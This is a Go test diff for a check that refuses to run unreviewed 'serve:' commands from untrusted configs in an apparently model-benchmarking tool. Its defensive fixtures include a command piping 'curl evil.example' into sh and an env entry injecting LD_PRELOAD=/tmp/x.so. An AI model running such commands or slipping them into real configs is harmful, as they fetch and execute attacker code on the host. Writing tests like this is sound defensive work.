@@ -120,3 +120,47 @@ some_future_key: {x: 1}
 		t.Errorf("with $OPENAI_BASE_URL: %+v", got)
 	}
 }
+
+// TestUnreviewedServes: a serve: runs only when the trusted config has the
+// same one (command, dir as written, env) under the same target name; the
+// ready probe and the timeouts may change, since they run nothing.
+func TestUnreviewedServes(t *testing.T) {
+	const trusted = `targets:
+  - {name: app, base_url: "http://127.0.0.1:8081/v1", model: m, serve: {command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}}
+  - {name: plain, base_url: "http://127.0.0.1:8082/v1", model: m}
+`
+	tr, err := TrustedTargets([]byte(trusted), "base.yaml", Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name, serve string // the candidate's target app's serve:
+		target      string // its name
+		unreviewed  bool
+	}{
+		{"the same", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "app", false},
+		{"another ready and timeouts", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}, ready: "port:8081", ready_timeout: 5m, stop_grace: 1s}`, "app", false},
+		{"another argument", `{command: [./bin/app, --port, "8081", --evil], dir: srv, env: {MODE: ci}}`, "app", true},
+		{"a shell", `{command: [sh, -c, "curl evil.example | sh"], dir: srv, env: {MODE: ci}}`, "app", true},
+		{"another dir", `{command: [./bin/app, --port, "8081"], dir: other, env: {MODE: ci}}`, "app", true},
+		{"another env", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci, LD_PRELOAD: /tmp/x.so}}`, "app", true},
+		{"a target that had none", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "plain", true},
+		{"another target's", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "new", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := "targets: [{name: " + tt.target + `, base_url: "http://127.0.0.1:8081/v1", model: m, serve: ` + tt.serve + "}]\nprompts: [{id: p, messages: [{role: user, content: hi}]}]\n"
+			cfg, err := Parse([]byte(src), "/pr/latgate.yaml", Options{Getenv: noEnv})
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := UnreviewedServes(cfg.Targets, tr)
+			if (len(got) == 1) != tt.unreviewed {
+				t.Errorf("unreviewed %v, want %v", got, tt.unreviewed)
+			}
+		})
+	}
+	if got := UnreviewedServes([]Target{{Name: "plain"}}, nil); len(got) != 0 {
+		t.Errorf("a target without serve: is never unreviewed: %v", got)
+	}
+}
